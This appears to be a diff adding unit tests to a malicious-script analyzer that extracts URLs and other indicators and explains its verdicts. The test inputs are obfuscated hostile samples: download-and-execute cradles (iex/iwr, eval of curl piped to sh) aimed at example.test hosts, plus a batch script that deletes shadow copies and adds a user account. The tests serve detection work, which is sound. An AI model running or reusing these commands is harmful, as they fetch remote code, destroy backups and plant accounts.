@@ -47,6 +47,35 @@ describe('analyzeScript', () => {
     expect(analysis.verdict).toBe('malicious');
   });
 
+  it('passes the environment of a batch file to the PowerShell it starts', () => {
+    const { indicators } = analyze('@echo off\nset "p=iwr http://d.exam"\nset "q=ple.test/x -o y"\npowershell -c "iex ($env:p+$env:q)"\n', { fileName: 'a.bat' });
+    expect(indicators.filter(({ type }) => type === 'url').map(({ value }) => value)).toEqual(['http://d.example.test/x']);
+  });
+
+  it('cites an indicator where it stands to the letter', () => {
+    const { indicators, layers } = analyze("import ctypes\nctypes.windll.kernel32.CreateMutexW(None, False, 'Global\\\\abc-1')\nopen('C:\\\\Users\\\\Public\\\\a.exe', 'wb')", { language: 'python' });
+    const lines = (layer: number): string[] => (layers[layer]?.text ?? '').split('\n');
+    expect(indicators.map(({ value }) => value)).toEqual(expect.arrayContaining(['Global\\abc-1', 'C:\\Users\\Public\\a.exe']));
+    for (const { layer, line, value } of indicators) expect(lines(layer)[line - 1]).toContain(value);
+  });
+
+  it.each([
+    ['data written backwards', `eval "$(rev <<< 'hs | x/tset.elpmaxe.e//:ptth lruc')"`, 'bash', ['http://e.example.test/x']],
+    ['a marker put in', "eval('fetQQch(\"htQQtp://fQQ.exampQQle.tesQQt/a\")'.replace(/QQ/g, ''))", 'javascript', ['http://f.example.test/a']],
+    ['pieces', "iex ('iwr http://g.exam'+'ple.test/a')", 'powershell', ['http://g.example.test/a']],
+    ['another case', "x='HTTP://H.EXAMPLE.TEST/a'; curl \"${x,,}\"", 'bash', ['http://h.example.test/a']],
+  ] as const)('does not take %s for an address', (_name, text, language, urls) => {
+    expect(analyze(text, { language }).indicators.filter(({ type }) => type === 'url').map(({ value }) => value)).toEqual(urls);
+  });
+
+  it('tells words that were put together or written in changing case', () => {
+    const rules = (text: string, language: 'batch' | 'vbscript' | 'javascript'): string[] => analyze(text, { language }).facts.filter(({ techniques }) => techniques.includes('T1027.010')).map(({ rule }) => rule);
+    expect(rules('set a=sch\nset b=tasks\n%a%%b% /query\n', 'batch')).toContain('splits-words');
+    expect(rules('SeT sHelL = cReAtEObJeCt("WScRiPt.sHeLl")\nsHeLl.rUn "a.exe"', 'vbscript')).toEqual(['changing-case']);
+    expect(rules('Set shell = CreateObject("WScript.Shell")\nshell.Run "a.exe"', 'vbscript')).toEqual([]);
+    expect(rules('const a = require("fs"); a.readFileSync("XMLHttpRequest");', 'javascript')).toEqual([]);
+  });
+
   it('calls ordinary work benign and says when it cannot tell', () => {
     expect(analyze('Get-ChildItem C:\\Logs -Filter *.log | Where-Object { $_.Length -gt 1MB } | Remove-Item', { fileName: 'a.ps1' }).verdict).toBe('benign');
     expect(analyze('lorem ipsum dolor sit amet').verdict).toBe('unknown');
@@ -64,6 +93,15 @@ describe('analyzeScript', () => {
     const verified = await runCardPipeline({ facts, rulesDraft: draft, inputDigest: analysis.sha256, engine: scriptEngine });
     expect(verified.dropped).toEqual([]);
     expect(verified.card.statements.length).toBeGreaterThan(2);
+  });
+
+  it('leads with what decided the verdict, then what weighs most, and says nothing twice', () => {
+    const analysis = analyze(`@echo off\npowershell -w hidden -enc ${encoded(cradle)}\nvssadmin delete shadows /all /quiet\nnet user helper P4ss /add`, { fileName: 'a.bat' });
+    const { statements } = explainScript(analysis).draft;
+    expect(statements[0]?.text).toMatch(/^The batch script of \d+ bytes was judged malicious: it deletes shadow copies\.$/);
+    expect(statements[1]?.text).toMatch(/^It also downloads code and runs it in PowerShell \(hxxp:/);
+    const cited = statements.filter(({ section }) => section === 'lead' || section === 'story').flatMap(({ facts }) => facts).filter((id) => id !== 's1');
+    expect(new Set(cited).size).toBe(cited.length);
   });
 
   it('never throws and says the same twice, whatever the bytes', () => {
